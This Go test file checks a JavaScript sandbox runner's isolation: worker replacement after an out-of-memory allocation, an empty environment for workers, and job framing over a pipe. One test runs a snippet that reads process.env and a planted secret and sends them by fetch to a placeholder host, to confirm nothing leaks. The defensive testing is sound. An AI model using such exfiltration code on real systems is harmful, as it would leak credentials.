package jsbox

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"strings"
	"sync"
	"testing"

	"sccg/evaluate/sandbox"
	"sccg/lang"
)

// TestRunnerReplacesDeadWorkers: a worker that dies takes only its own
// completion; the others, run at the same time on other workers, go on.
func TestRunnerReplacesDeadWorkers(t *testing.T) {
	r := newTestRunner(t, Options{Workers: 2})
	t.Log(r.Isolation())
	ctx := context.Background()
	var wg sync.WaitGroup
	results := make([]sandbox.Result, 8)
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			code := canary
			if i%4 == 0 {
				code = "const big = new Float64Array(2e8); big[1] = 1;"
			}
			res, err := r.RunDialect(ctx, lang.DialectTS, code, "getQuote")
			if err != nil {
				t.Error(err)
			}
			results[i] = res
		}()
	}
	wg.Wait()
	for i, res := range results {
		if i%4 == 0 {
			if !wantOOM(res.Status) {
				t.Errorf("bomb %d: %s (%s), want oom", i, res.Status, res.Reason)
			}
			continue
		}
		if res.Status != sandbox.StatusOK || len(res.Requests) != 1 {
			t.Errorf("completion %d: %s (%s) %v", i, res.Status, res.Reason, res.Requests)
		}
	}
	if !strings.Contains(r.Isolation(), "worker processes") {
		t.Errorf("isolation %q", r.Isolation())
	}
}

// TestWorkerSeesNoEnvironment: the worker's environment is empty and process.env
// is too, whatever the evaluator's holds.
func TestWorkerSeesNoEnvironment(t *testing.T) {
	t.Setenv("SCCG_TEST_SECRET", "s3cr3t")
	r := newTestRunner(t, Options{Workers: 1})
	res, err := r.Run(context.Background(), `
const keys = Object.keys(process.env);
fetch('https://env.example.com/?n=' + keys.length + '&s=' + (process.env.SCCG_TEST_SECRET || 'none'));`, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Requests) != 1 || res.Requests[0].URL != "https://env.example.com/?n=0&s=none" {
		t.Errorf("requests %v", res.Requests)
	}
}

// TestJobFrame: a job crosses the pipe as the JSON it replaced would have
// carried it (invalid UTF-8 coerced byte by byte), whatever its code holds.
func TestJobFrame(t *testing.T) {
	for _, j := range []job{
		{Lang: "ts", Code: "const a = 'é\u2028\"\\\n';\x00", Function: "f", TimeoutMS: 5000},
		{Lang: "", Code: "x\xff\xfey\xe2\x82", Function: "Class.m", TimeoutMS: -3},
		{},
	} {
		var b bytes.Buffer
		if err := writeJob(&b, j); err != nil {
			t.Fatal(err)
		}
		var got job
		if err := readJob(bufio.NewReader(&b), &got); err != nil {
			t.Fatal(err)
		}
		jb, _ := json.Marshal(j)
		var want job
		if err := json.Unmarshal(jb, &want); err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("got %#v, want %#v", got, want)
		}
	}
	var b bytes.Buffer
	writeJob(&b, job{Code: "abc"})
	cut := b.Bytes()[:b.Len()-3]
	binary.BigEndian.PutUint32(cut, uint32(len(cut)-4))
	if err := readJob(bufio.NewReader(bytes.NewReader(cut)), &job{}); err == nil {
		t.Error("a frame cut short reads")
	}
}
